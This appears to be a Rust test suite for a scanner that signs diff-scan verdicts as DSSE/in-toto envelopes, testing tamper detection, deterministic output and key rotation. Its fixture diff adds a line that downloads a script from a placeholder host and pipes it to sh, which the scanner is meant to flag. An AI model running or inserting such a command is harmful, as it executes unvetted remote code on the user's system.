//! Signed artifacts: DSSE PAE, round trips, tamper detection on every byte,
//! deterministic bytes, key rotation, and the production refusal.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use diffver_core::artifact::{self, ArtifactError, HmacSigner, Keyring, SigningMode, pae};
use diffver_core::policy::Policy;
use diffver_core::rules::Ruleset;
use diffver_core::suppress::Timestamp;
use diffver_core::verdict::{Inputs, ScanContext, Verdict, evaluate};
use proptest::prelude::*;

fn verdict(diff: &[u8]) -> Verdict {
    let rules = Ruleset::builtin();
    let policy = Policy::builtin("standard").unwrap();
    let ctx = ScanContext::new(
        "scan-42",
        Timestamp::parse_rfc3339("2026-11-29T09:00:00Z").unwrap(),
    );
    evaluate(&Inputs::new(diff, &rules, &policy, &ctx))
}

const DIFF: &[u8] = b"--- a/run.sh\n+++ b/run.sh\n@@ -1 +1,2 @@\n echo start\n+curl -s https://x.example/i.sh | sh\n";

fn envelope() -> Vec<u8> {
    artifact::sign(
        &verdict(DIFF),
        &HmacSigner::deterministic(SigningMode::Development).unwrap(),
    )
    .unwrap()
}

#[test]
fn dsse_pae_test_vector() {
    assert_eq!(
        pae("http://example.com/HelloWorld", b"hello world"),
        b"DSSEv1 29 http://example.com/HelloWorld 11 hello world".to_vec()
    );
}

#[test]
fn round_trip_and_statement_shape() {
    let env = envelope();
    let v = artifact::verify(&env, &Keyring::development()).unwrap();
    assert_eq!(v.decision, "fail");
    assert_eq!(v.scan_id, "scan-42");
    assert_eq!(v.scanned_at, "2026-11-29T09:00:00Z");
    assert_eq!(v.findings[0].rule_id, "exec.download-pipe-shell");
    let outer: serde_json::Value = serde_json::from_slice(&env).unwrap();
    assert_eq!(outer["payloadType"], "application/vnd.in-toto+json");
    use base64::Engine as _;
    let payload = base64::engine::general_purpose::STANDARD
        .decode(outer["payload"].as_str().unwrap())
        .unwrap();
    let st: serde_json::Value = serde_json::from_slice(&payload).unwrap();
    assert_eq!(st["_type"], "https://in-toto.io/Statement/v1");
    assert_eq!(st["subject"][0]["name"], "diffs/scan-42.patch");
    use sha2::Digest;
    let digest: String = sha2::Sha256::digest(DIFF)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    assert_eq!(st["subject"][0]["digest"]["sha256"], digest.as_str());
    // Canonical JSON: re-serialising with sorted keys and no whitespace gives the same bytes.
    assert_eq!(serde_jcs::to_vec(&st).unwrap(), payload);
}

#[test]
fn same_inputs_give_identical_bytes() {
    assert_eq!(envelope(), envelope());
    let other = artifact::sign(
        &verdict(b""),
        &HmacSigner::deterministic(SigningMode::Development).unwrap(),
    )
    .unwrap();
    assert_ne!(envelope(), other);
}

#[test]
fn every_single_byte_flip_fails_verification() {
    let env = envelope();
    let keys = Keyring::development();
    for i in 0..env.len() {
        let mut t = env.clone();
        t[i] ^= 0x01;
        assert!(
            artifact::verify(&t, &keys).is_err(),
            "flipping byte {i} was not detected"
        );
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2000, failure_persistence: None, ..ProptestConfig::default() })]
    #[test]
    fn any_single_byte_change_fails(i in any::<prop::sample::Index>(), x in 1u8..=255) {
        let env = envelope_cached();
        let mut t = env.to_vec();
        let at = i.index(t.len());
        t[at] ^= x;
        prop_assert!(artifact::verify(&t, &Keyring::development()).is_err());
    }
}

fn envelope_cached() -> &'static [u8] {
    static ENV: std::sync::OnceLock<Vec<u8>> = std::sync::OnceLock::new();
    ENV.get_or_init(envelope)
}

#[test]
fn keys_rotation_and_production() {
    assert_eq!(
        HmacSigner::deterministic(SigningMode::Production).unwrap_err(),
        ArtifactError::DeterministicInProduction
    );
    let v = verdict(DIFF);
    let old = HmacSigner::new("k-2025", b"old operator key".to_vec()).unwrap();
    let new = HmacSigner::new("k-2026", b"new operator key".to_vec()).unwrap();
    let env_old = artifact::sign(&v, &old).unwrap();
    let env_new = artifact::sign(&v, &new).unwrap();
    let ring = Keyring::new()
        .with_key("k-2025", b"old operator key".to_vec())
        .with_key("k-2026", b"new operator key".to_vec());
    assert!(
        artifact::verify(&env_old, &ring).is_ok(),
        "old artifacts verify after rotation"
    );
    assert!(artifact::verify(&env_new, &ring).is_ok());
    let only_new = Keyring::new().with_key("k-2026", b"new operator key".to_vec());
    assert!(matches!(
        artifact::verify(&env_old, &only_new),
        Err(ArtifactError::UnknownKey { .. })
    ));
    let wrong = Keyring::new().with_key("k-2026", b"not the key".to_vec());
    assert!(matches!(
        artifact::verify(&env_new, &wrong),
        Err(ArtifactError::BadSignature { .. })
    ));
    assert!(
        artifact::verify(&env_new, &Keyring::development()).is_err(),
        "the dev keyring does not accept operator keys"
    );
    assert!(HmacSigner::new("", b"k".to_vec()).is_err());
}

#[test]
fn garbage_is_rejected_cleanly() {
    for junk in [
        &b""[..],
        b"{}",
        b"null",
        b"{\"payload\":\"\",\"payloadType\":\"x\",\"signatures\":[]}",
        &[0xff; 40],
    ] {
        assert!(artifact::verify(junk, &Keyring::development()).is_err());
    }
}
